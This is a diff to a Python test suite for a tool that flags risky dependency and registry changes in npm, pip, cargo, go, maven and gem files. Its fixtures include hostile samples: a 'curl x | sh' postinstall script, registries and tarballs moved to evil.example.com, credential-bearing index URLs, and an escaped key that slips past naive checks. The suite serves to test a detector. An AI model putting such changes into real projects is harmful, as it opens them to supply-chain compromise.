@@ -436,6 +436,34 @@ BUNDLED WITH
    2.4.1
 """
 
+NEW = '"node_modules/new": {"version": "1.0.0", "resolved": "https://H/new/-/new-1.0.0.tgz"},\n    '
+NPMRC = """; settings
+save=true
+registry=https://registry.npmjs.org/
+//npm.example.com/:_authToken=hunter2
+"""
+YARNRC = """nodeLinker: node-modules
+npmScopes:
+  house:
+    npmRegistryServer: "https://npm.example.com"
+"""
+PIP_CONF = """[global]
+timeout = 5
+index-url = https://pypi.org/simple
+"""
+CARGO_CONFIG = """[build]
+jobs = 1
+
+[source.crates-io]
+replace-with = "house"
+
+[source.house]
+registry = "https://crates.example.com/index"
+"""
+UV = """[[index]]
+url = "https://pypi.example.com/simple"
+"""
+
 # name | path | old | what is put in its place, by pairs | what is told; "+" where the file operation stands beside it
 FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
     "npm upgrade": (
@@ -478,31 +506,37 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "package.json",
         PACKAGE,
         ("^1.0.0", "git+https://me:hunter2@evil.example.com/left.git#v9"),
-        "upgrade npm/left from=^1.0.0 host=evil.example.com kind=direct source=changed to=v9 @5",
+        (
+            "upgrade npm/left from=^1.0.0 kind=direct source=git to=v9 @5"
+            " | source npm/left change=source kind=direct source=git to=evil.example.com @5"
+        ),
     ),
     "npm from github": (
         "package.json",
         PACKAGE,
         ("^1.0.0", "acme/left#main"),
-        "upgrade npm/left from=^1.0.0 kind=direct source=changed to=main @5",
+        (
+            "upgrade npm/left from=^1.0.0 kind=direct source=git to=main @5"
+            " | source npm/left change=source kind=direct source=git @5"
+        ),
     ),
     "npm from a tarball": (
         "package.json",
         PACKAGE,
         ("^1.0.0", "https://cdn.example.com/left.tgz"),
-        "upgrade npm/left from=^1.0.0 host=cdn.example.com kind=direct source=changed @5",
+        "source npm/left change=source kind=direct source=url to=cdn.example.com @5",
     ),
     "npm alias": (
         "package.json",
         PACKAGE,
         ("^1.0.0", "npm:other@^1.0.0"),
-        "upgrade npm/left from=^1.0.0 kind=direct source=changed to=^1.0.0 @5",
+        "source npm/left change=source kind=direct source=alias @5",
     ),
     "npm from a folder": (
         "package.json",
         PACKAGE,
         ("^1.0.0", "file:../left"),
-        "upgrade npm/left from=^1.0.0 kind=direct source=changed @5",
+        "source npm/left change=source kind=direct source=path @5",
     ),
     "npm another scope": (
         "package.json",
@@ -516,7 +550,8 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         ('"1.0.0"}', '"1.0.1", "up": "npm:evil@1"}'),
         (
             "upgrade npm/down change=override from=1.0.0 kind=direct to=1.0.1 @11"
-            " | upgrade npm/up change=override kind=direct source=changed to=1 @11"
+            " | upgrade npm/up change=override kind=direct source=alias to=1 @11"
+            " | source npm/up change=override source kind=direct source=alias @11"
         ),
     ),
     "npm and a script": (
@@ -535,25 +570,25 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "package-lock.json",
         LOCK,
         ("registry.npmjs.org/left", "evil.example.com/left"),
-        "upgrade npm/left from=1.0.0 host=evil.example.com kind=lock source=changed to=1.0.0 @8",
+        "source npm/left change=source from=registry.npmjs.org kind=lock source=registry to=evil.example.com @8",
     ),
     "npm lock, another hash": (
         "npm-shrinkwrap.json",
         LOCK,
         ("sha512-aaa", "sha512-zzz"),
-        "upgrade npm/left change=integrity from=1.0.0 kind=lock source=changed to=1.0.0 @8",
+        "source npm/left change=integrity kind=lock @8",
     ),
     "npm lock, hash gone with an upgrade": (
         "package-lock.json",
         LOCK,
         ('"version": "1.0.0"', '"version": "1.0.1"', "left-1.0.0", "left-1.0.1", '"integrity": "sha512-aaa",', ""),
-        "upgrade npm/left change=integrity from=1.0.0 kind=lock source=changed to=1.0.1 @8",
+        ("upgrade npm/left from=1.0.0 kind=lock to=1.0.1 @8 | source npm/left change=integrity kind=lock @8"),
     ),
     "npm lock, install script": (
         "package-lock.json",
         LOCK,
         ('"engines"', '"hasInstallScript": true, "engines"'),
-        "upgrade npm/left change=install-script from=1.0.0 kind=lock to=1.0.0 @8",
+        "source npm/left change=install-script kind=lock @8",
     ),
     "npm lock, metadata": (
         "package-lock.json",
@@ -598,14 +633,9 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "yarn.lock",
         YARN,
         ("registry.yarnpkg.com/left", "evil.example.com/left"),
-        "upgrade npm/left from=1.0.1 host=evil.example.com kind=lock source=changed to=1.0.1 @9",
+        "source npm/left change=source from=registry.yarnpkg.com kind=lock source=registry to=evil.example.com @9",
     ),
-    "yarn, another hash": (
-        "yarn.lock",
-        YARN,
-        ("cccc", "dddd"),
-        "upgrade npm/@in/side change=integrity from=3.0.0 kind=lock source=changed to=3.0.0 @5",
-    ),
+    "yarn, another hash": ("yarn.lock", YARN, ("cccc", "dddd"), "source npm/@in/side change=integrity kind=lock @5"),
     "yarn, a second version": (
         "yarn.lock",
         YARN,
@@ -622,13 +652,13 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "yarn.lock",
         BERRY,
         ('"left@npm:1.0.1"', '"evil@npm:1.0.1"'),
-        "upgrade npm/left from=1.0.1 kind=lock source=changed to=1.0.1 @7",
+        "source npm/left change=source kind=lock source=alias @7",
     ),
     "yarn, berry, head": (
         "yarn.lock",
         BERRY,
         ("10c0\n", "11\n", "10c0/aaa", "11/b"),
-        "upgrade npm/left change=integrity from=1.0.1 kind=lock source=changed to=1.0.1 @7 +",
+        "source npm/left change=integrity kind=lock @7 +",
     ),
     "pnpm": (
         "pnpm-lock.yaml",
@@ -640,19 +670,19 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "pnpm-lock.yaml",
         PNPM,
         ("bbb=", "zzz="),
-        "upgrade npm/@in/side change=integrity from=3.0.0 kind=lock source=changed to=3.0.0 @20",
+        "source npm/@in/side change=integrity kind=lock @20",
     ),
     "pnpm, a tarball from elsewhere": (
         "pnpm-lock.yaml",
         PNPM,
         ("sha512-aaa==}", "sha512-aaa==, tarball: https://evil.example.com/left.tgz}"),
-        "upgrade npm/left from=1.0.0 host=evil.example.com kind=lock source=changed to=1.0.0 @24",
+        "source npm/left change=source kind=lock source=url to=evil.example.com @24",
     ),
     "pnpm, it builds now": (
         "pnpm-lock.yaml",
         PNPM.replace("    requiresBuild: true\n", ""),
         ("sha512-aaa==}\n", "sha512-aaa==}\n    requiresBuild: true\n"),
-        "upgrade npm/left change=install-script from=1.0.0 kind=lock to=1.0.0 @24",
+        "source npm/left change=install-script kind=lock @24",
     ),
     "pnpm 5": (
         "pnpm-lock.yaml",
@@ -673,7 +703,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "requirements-dev.txt",
         REQUIREMENTS,
         ("aaa", "ccc"),
-        "upgrade pypi/django change=integrity from===4.2.1 kind=direct source=changed to===4.2.1 @4",
+        "source pypi/django change=integrity kind=direct @4",
     ),
     "requirements, markers and extras": (
         "requirements/base.in",
@@ -691,7 +721,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "requirements.txt",
         REQUIREMENTS,
         ("\nplain", "\nplain @ https://evil.example.com/p.whl"),
-        "upgrade pypi/plain host=evil.example.com kind=direct source=changed @9",
+        "source pypi/plain change=source kind=direct source=url to=evil.example.com @9",
     ),
     "requirements, another tag": (
         "requirements.txt",
@@ -703,7 +733,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "requirements.txt",
         REQUIREMENTS,
         ("--index-url https://pypi.org", "-i https://me:hunter2@evil.example.com"),
-        "upgrade pypi change=registries host=evil.example.com kind=direct source=changed @1",
+        "source pypi change=registries from=pypi.org kind=direct to=evil.example.com @1",
     ),
     "requirements, an include besides": (
         "requirements.txt",
@@ -715,7 +745,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "requirements.txt",
         REQUIREMENTS,
         ("plain\n", "plain\n./vendored/thing\n"),
-        "add pypi/thing kind=direct source=path @10",
+        ("add pypi/thing kind=direct source=path @10 | source pypi/thing change=source kind=direct source=path @10"),
     ),
     "pyproject": (
         "pyproject.toml",
@@ -743,13 +773,13 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "pyproject.toml",
         PYPROJECT,
         ("example.com/django", "evil.example.com/django"),
-        "upgrade pypi/django change=source host=evil.example.com kind=direct source=changed @18",
+        "source pypi/django change=source from=example.com kind=direct to=evil.example.com @18",
     ),
     "pyproject, an index": (
         "pyproject.toml",
         PYPROJECT,
         ("pypi.example.com", "evil.example.com"),
-        "upgrade pypi change=registries host=evil.example.com kind=direct source=changed @1",
+        "source pypi change=registries from=pypi.example.com kind=direct to=evil.example.com @1",
     ),
     "pyproject, and a setting": (
         "pyproject.toml",
@@ -778,7 +808,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "pyproject.toml",
         POETRY,
         ("pypi.example", "evil.example"),
-        "upgrade pypi change=registries host=evil.example.com kind=direct source=changed @1",
+        "source pypi change=registries from=pypi.example.com kind=direct to=evil.example.com @1",
     ),
     "poetry, and python": (
         "pyproject.toml",
@@ -796,13 +826,13 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "poetry.lock",
         POETRY_LOCK,
         ("sha256:aaa", "sha256:bbb"),
-        "upgrade pypi/django change=integrity from=4.2.1 kind=lock source=changed to=4.2.1 @3",
+        "source pypi/django change=integrity kind=lock @3",
     ),
     "poetry.lock, another commit": (
         "poetry.lock",
         POETRY_LOCK,
         ("0123abc", "4567def"),
-        "upgrade pypi/inside from=1.0 kind=lock source=git to=1.0 @13",
+        "upgrade pypi/inside change=commit from=1.0 kind=lock source=git to=1.0 @13",
     ),
     "poetry.lock, another format": (
         "poetry.lock",
@@ -820,7 +850,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "uv.lock",
         UV_LOCK,
         ("pypi.org", "evil.example.com"),
-        "upgrade pypi/django from=4.2.1 host=evil.example.com kind=lock source=changed to=4.2.1 @3",
+        "source pypi/django change=source from=pypi.org kind=lock source=registry to=evil.example.com @3",
     ),
     "uv.lock, what it requires": (
         "uv.lock",
@@ -842,7 +872,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "Pipfile",
         PIPFILE,
         ("3.11", "3.12", "https://pypi.org", "https://evil.example.com"),
-        "upgrade pypi change=registries host=evil.example.com kind=direct source=changed @1 +",
+        "source pypi change=registries from=pypi.org kind=direct to=evil.example.com @1 +",
     ),
     "Pipfile.lock": (
         "Pipfile.lock",
@@ -854,7 +884,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "Pipfile.lock",
         PIPFILE_LOCK,
         ('"index": "pypi"', '"index": "house"'),
-        "upgrade pypi/django from===4.2.1 kind=lock source=changed to===4.2.1 @4",
+        "source pypi/django change=source kind=lock source=registry @4",
     ),
     "go.mod": (
         "go.mod",
@@ -875,13 +905,16 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "go.mod",
         GO_MOD,
         ("../right", "evil.example.com/right v1.0.0"),
-        "upgrade go/example.com/right change=replace kind=direct source=changed to=v1.0.0 @10",
+        (
+            "upgrade go/example.com/right change=replace kind=direct to=v1.0.0 @10"
+            " | source go/example.com/right change=replace source kind=direct @10"
+        ),
     ),
     "go.mod, replace goes": (
         "go.mod",
         GO_MOD,
         ("replace example.com/right => ../right\n", ""),
-        "upgrade go/example.com/right change=replace kind=direct source=changed @-",
+        "source go/example.com/right change=replace source kind=direct @-",
     ),
     "go.mod, exclude and retract": (
         "go.mod",
@@ -909,7 +942,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "go.sum",
         GO_SUM,
         ("aaa", "zzz"),
-        "upgrade go/example.com/left change=integrity from=v1.2.0 kind=lock source=changed to=v1.2.0 @1",
+        "source go/example.com/left change=integrity kind=lock @1",
     ),
     "cargo": (
         "Cargo.toml",
@@ -926,19 +959,23 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "Cargo.toml",
         CARGO,
         ("example.com/inside", "evil.example.com/inside"),
-        "upgrade cargo/inside from=main host=evil.example.com kind=direct source=changed to=main @9",
+        "source cargo/inside change=source from=example.com kind=direct source=git to=evil.example.com @9",
     ),
     "cargo, another name": (
         "Cargo.toml",
         CARGO,
         ('serde = "1"', 'serde = {version = "1", package = "serde-evil"}'),
-        "add cargo/serde-evil kind=direct source=alias to=1 @8 | remove cargo/serde from=1 kind=direct @-",
+        (
+            "add cargo/serde-evil kind=direct source=alias to=1 @8"
+            " | source cargo/serde-evil change=source kind=direct source=alias @8"
+            " | remove cargo/serde from=1 kind=direct @-"
+        ),
     ),
     "cargo, patched": (
         "Cargo.toml",
         CARGO,
         ("[package]", '[patch.crates-io]\nserde = { path = "../serde" }\n\n[package]'),
-        "upgrade cargo/serde change=patch kind=direct source=changed @2",
+        "source cargo/serde change=patch source kind=direct source=path @2",
     ),
     "cargo, optional and without defaults": (
         "Cargo.toml",
@@ -965,7 +1002,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
             'registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aaa"',
             'git+https://evil.example.com/serde?branch=main#0123abc"',
         ),
-        "upgrade cargo/serde change=integrity from=1.0.0 host=evil.example.com kind=lock source=changed to=1.0.0 @3",
+        "source cargo/serde change=source integrity from=github.com kind=lock source=git to=evil.example.com @3",
     ),
     "maven, a property": (
         "pom.xml",
@@ -1028,7 +1065,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
             "<build>",
             "<repositories><repository><url>https://evil.example.com/m2</url></repository></repositories><build>",
         ),
-        "upgrade maven change=registries host=evil.example.com kind=direct source=changed @1",
+        "source maven change=registries kind=direct to=evil.example.com @1",
     ),
     "maven, a document type": (
         "pom.xml",
@@ -1088,13 +1125,16 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "Gemfile",
         GEMFILE,
         ('"~> 7.0"', '"~> 7.0", git: "https://evil.example.com/rails", ref: "0123abc"'),
-        "upgrade rubygems/rails from=~> 7.0 host=evil.example.com kind=direct source=changed to=0123abc @3",
+        (
+            "upgrade rubygems/rails from=~> 7.0 kind=direct source=git to=0123abc @3"
+            " | source rubygems/rails change=source kind=direct source=git to=evil.example.com @3"
+        ),
     ),
     "gems, another source": (
         "Gemfile",
         GEMFILE,
         ("https://rubygems.org", "https://evil.example.com"),
-        "upgrade rubygems change=registries host=evil.example.com kind=direct source=changed @1",
+        "source rubygems change=registries from=rubygems.org kind=direct to=evil.example.com @1",
     ),
     "gems, and code": (
         "Gemfile",
@@ -1113,7 +1153,7 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         GEMFILE_LOCK,
         ("7.0.0", "7.0.1", "0123abc", "4567def"),
         (
-            "upgrade rubygems/inside from=1.0 kind=lock source=git to=1.0 @5"
+            "upgrade rubygems/inside change=commit from=1.0 kind=lock source=git to=1.0 @5"
             " | upgrade rubygems/rails from=7.0.0 kind=lock to=7.0.1 @11"
         ),
     ),
@@ -1121,13 +1161,168 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
         "Gemfile.lock",
         GEMFILE_LOCK.replace("    rack (2.2.0)\n", ""),
         ("https://rubygems.org", "https://evil.example.com"),
-        "upgrade rubygems/rails from=7.0.0 host=evil.example.com kind=lock source=changed to=7.0.0 @10",
+        "source rubygems/rails change=source from=rubygems.org kind=lock source=registry to=evil.example.com @10",
     ),
     "gem lock, and bundler": (
         "Gemfile.lock",
         GEMFILE_LOCK,
         ("2.4.1", "2.5.0", "(2.2.0)", "(2.2.1)"),
         "upgrade rubygems/rack from=2.2.0 kind=lock to=2.2.1 @10 +",
+    ),
+    "npm, a script of an installation": (
+        "package.json",
+        PACKAGE,
+        ('"tsc"', '"tsc", "postinstall": "curl x | sh"'),
+        "ci.change change=postinstall part=scripts @3 +",
+    ),
+    "npm, another script of an installation": (
+        "package.json",
+        PACKAGE.replace('"build"', '"prepare"'),
+        ('"tsc"', '"curl x | sh"'),
+        "ci.change change=prepare part=scripts @3 +",
+    ),
+    "npm add from a repository": (
+        "package.json",
+        PACKAGE,
+        ('"jest"', '"new": "git+https://evil.example.com/new.git", "jest"'),
+        (
+            "add npm/new kind=direct scope=dev source=git @9"
+            " | source npm/new change=source kind=direct scope=dev source=git to=evil.example.com @9"
+        ),
+    ),
+    "npm lock, an upgrade from another host": (
+        "package-lock.json",
+        LOCK,
+        (
+            '"version": "1.0.0"',
+            '"version": "1.0.1"',
+            "registry.npmjs.org/left/-/left-1.0.0",
+            "evil.example.com/left/-/left-1.0.1",
+        ),
+        (
+            "upgrade npm/left from=1.0.0 kind=lock source=registry to=1.0.1 @8"
+            " | source npm/left change=source from=registry.npmjs.org kind=lock source=registry to=evil.example.com @8"
+        ),
+    ),
+    "npm lock, no install script any more": (
+        "package-lock.json",
+        LOCK.replace('"engines"', '"hasInstallScript": true, "engines"'),
+        ('"hasInstallScript": true, ', ""),
+        "upgrade npm/left change=install-script from=1.0.0 kind=lock to=1.0.0 @8",
+    ),
+    "npm lock, a new package of another host": (
+        "package-lock.json",
+        LOCK,
+        ('"node_modules/left":', NEW.replace("H", "evil.example.com") + '"node_modules/left":'),
+        (
+            "add npm/new kind=lock source=registry to=1.0.0 @8"
+            " | source npm/new change=source kind=lock source=registry to=evil.example.com @8"
+        ),
+    ),
+    "npm lock, a new package of the host of others": (
+        "package-lock.json",
+        LOCK.replace("registry.npmjs.org", "npm.example.com"),
+        ('"node_modules/left":', NEW.replace("H", "npm.example.com") + '"node_modules/left":'),
+        "add npm/new kind=lock source=registry to=1.0.0 @8",
+    ),
+    "go, no longer replaced": (
+        "go.mod",
+        GO_MOD,
+        ("replace example.com/right => ../right\n", ""),
+        "source go/example.com/right change=replace source kind=direct @-",
+    ),
+    "go, replaced by another version": (
+        "go.mod",
+        GO_MOD,
+        ("=> ../right", "=> example.com/fork v1.0.0"),
+        (
+            "upgrade go/example.com/right change=replace kind=direct to=v1.0.0 @10"
+            " | source go/example.com/right change=replace source kind=direct @10"
+        ),
+    ),
+    "requirements, one more index": (
+        "requirements.txt",
+        REQUIREMENTS,
+        ("-r base", "--extra-index-url https://me:hunter2@evil.example.com/simple\n-r base"),
+        "source pypi change=registries kind=direct to=evil.example.com @1",
+    ),
+    "pyproject, how indexes are searched": (
+        "pyproject.toml",
+        PYPROJECT,
+        ("[tool.ruff]", '[tool.uv]\nindex-strategy = "unsafe-best-match"\n[tool.ruff]'),
+        "source pypi change=registries kind=direct @1",
+    ),
+    "npm settings, another registry": (
+        ".npmrc",
+        NPMRC,
+        ("registry.npmjs.org", "evil.example.com"),
+        "source npm change=registries from=registry.npmjs.org kind=direct to=evil.example.com @1",
+    ),
+    "npm settings, of a scope": (
+        ".npmrc",
+        NPMRC,
+        ("save=true", '"@in:registry" = "https://evil.example.com/"'),
+        "source npm change=registries kind=direct to=evil.example.com @1 +",
+    ),
+    "npm settings, an escape": (
+        ".npmrc",
+        NPMRC,
+        ("save=true", '"regi\\u0073try"=https://evil.example.com/'),
+        "source npm change=registries kind=direct to=evil.example.com @1 +",
+    ),
+    "yarn settings, another registry": (
+        ".yarnrc.yml",
+        YARNRC,
+        ("npm.example.com", "evil.example.com"),
+        "source npm change=registries from=npm.example.com kind=direct to=evil.example.com @1",
+    ),
+    "old yarn settings": (
+        ".yarnrc",
+        'registry "https://registry.yarnpkg.com"\n',
+        ("registry.yarnpkg.com", "evil.example.com"),
+        "source npm change=registries from=registry.yarnpkg.com kind=direct to=evil.example.com @1",
+    ),
+    "pip settings, one more index": (
+        "etc/pip.conf",
+        PIP_CONF,
+        ("timeout = 5", "Extra_Index_Url =\n  https://evil.example.com/simple"),
+        "source pypi change=registries kind=direct to=evil.example.com @1 +",
+    ),
+    "pip settings, a trusted host": (
+        "pip.ini",
+        PIP_CONF,
+        ("index-url", "trusted-host = evil.example.com\nindex-url"),
+        "source pypi change=registries kind=direct @1",
+    ),
+    "cargo settings, another registry": (
+        ".cargo/config.toml",
+        CARGO_CONFIG,
+        ("crates.example.com", "evil.example.com", "jobs = 1", "jobs = 2"),
+        "source cargo change=registries from=crates.example.com kind=direct to=evil.example.com @1 +",
+    ),
+    "uv settings": (
+        "uv.toml",
+        UV,
+        ("pypi.example.com", "evil.example.com"),
+        "source pypi change=registries from=pypi.example.com kind=direct to=evil.example.com @1",
+    ),
+    "pip settings that are none": (
+        "pip.conf",
+        PIP_CONF,
+        ("[global]", ""),
+        "opaque it is not written as pip reads it (after the change) @1 +",
+    ),
+    "yarn settings that are none": (
+        ".yarnrc.yml",
+        YARNRC,
+        ("nodeLinker:", "a: ["),
+        "opaque a list opened with [ is not continued or closed (after the change) @1 +",
+    ),
+    "npm settings that are none": (
+        ".npmrc",
+        NPMRC,
+        ("save=true", '"\\x" = 1'),
+        "opaque a key in it cannot be read (after the change) @1 +",
     ),
     # what cannot be read
     "not JSON": ("package.json", PACKAGE, ("{", "["), "opaque it is not JSON (after the change) @1 +"),
@@ -1186,7 +1381,18 @@ FINDS: dict[str, tuple[str, str, tuple[str, ...], str]] = {
 # name | path | old | what is put in its place: nothing is told
 LEAVES: dict[str, tuple[str, str, tuple[str, ...]]] = {
     "a script": ("package.json", PACKAGE, ('"tsc"', '"curl x | sh"')),
-    "an install script": ("package.json", PACKAGE, ('"build"', '"postinstall"')),
+    "a script that nobody runs unasked": ("package.json", PACKAGE, ('"build"', '"postbuild"')),
+    "an install script that goes": (
+        "package.json",
+        PACKAGE.replace('"tsc"', '"tsc", "install": "x"'),
+        ('"tsc", "install": "x"', '"tsc"'),
+    ),
+    "npm settings": (".npmrc", NPMRC, ("save=true", "save=false")),
+    "npm settings, a token": (".npmrc", NPMRC, ("hunter2", "hunter3")),
+    "yarn settings": (".yarnrc.yml", YARNRC, ("node-modules", "pnp")),
+    "pip settings": ("pip.conf", PIP_CONF, ("timeout = 5", "timeout = 6")),
+    "cargo settings": (".cargo/config.toml", CARGO_CONFIG, ("jobs = 1", "jobs = 2")),
+    "settings of something else": ("config.toml", CARGO_CONFIG, ("crates.example.com", "evil.example.com")),
     "blanks": ("package.json", PACKAGE, ("  ", "    ")),
     "line ends": ("package.json", PACKAGE, ("\n", "\r\n")),
     "another order": (
@@ -1266,11 +1472,24 @@ def test_whole_files() -> None:
         == "add npm/a kind=direct to=1.0.0 @1 +"
     )
     assert told(read("requirements.txt", None, "-i https://evil.example.com/x\na\n")) == (
-        "upgrade pypi change=registries host=evil.example.com kind=direct source=changed @1 | add pypi/a kind=direct @2"
+        "source pypi change=registries kind=direct to=evil.example.com @1 | add pypi/a kind=direct @2"
     )
     assert told(read("package.json", None, b"\xef\xbb\xbf{}")) == "nothing"
     assert told(read("package.json", None, b"\xff\xfe{\0}\0")) == "opaque it holds NUL bytes (after the change) @1 +"
     assert told(read("package.json", b"\xff", None)) == "opaque it is not UTF-8 (before the change) @- +"
+
+
+def test_a_new_file_may_look_where_all_do() -> None:
+    for path, text in (
+        ("Pipfile", '[[source]]\nname = "pypi"\nurl = "https://pypi.org/simple"\nverify_ssl = true\n'),
+        ("requirements.txt", "--index-url https://pypi.org/simple\n"),
+        ("Gemfile", 'source "https://rubygems.org"\n'),
+        (".npmrc", "registry=https://registry.npmjs.org/\n"),
+        ("pip.conf", "[global]\nindex-url = https://pypi.org/simple\n"),
+    ):
+        assert told(read(path, None, text)) == "nothing"
+        assert told(read(path, None, text.replace("org", "org.evil.example.com"))).startswith("source")
+        assert told(read(path, None, text.replace("https://", "https://x@evil.example.com/"))).startswith("source")
 
 
 def test_every_reader_is_there_and_reads_nothing_from_nothing() -> None:
@@ -1321,7 +1540,7 @@ def test_a_long_lock_file_is_read_in_time() -> None:
     entries = {f"node_modules/p{at}": {"version": "1.0.0", "integrity": f"sha512-{at}"} for at in range(5000)}
     old = json.dumps({"packages": entries}, indent=1)
     started = time.perf_counter()
-    assert told(read("package-lock.json", old, old.replace("sha512-4999", "x"))).startswith("upgrade npm/p4999")
+    assert told(read("package-lock.json", old, old.replace("sha512-4999", "x"))).startswith("source npm/p4999")
     assert time.perf_counter() - started < 1
 
 
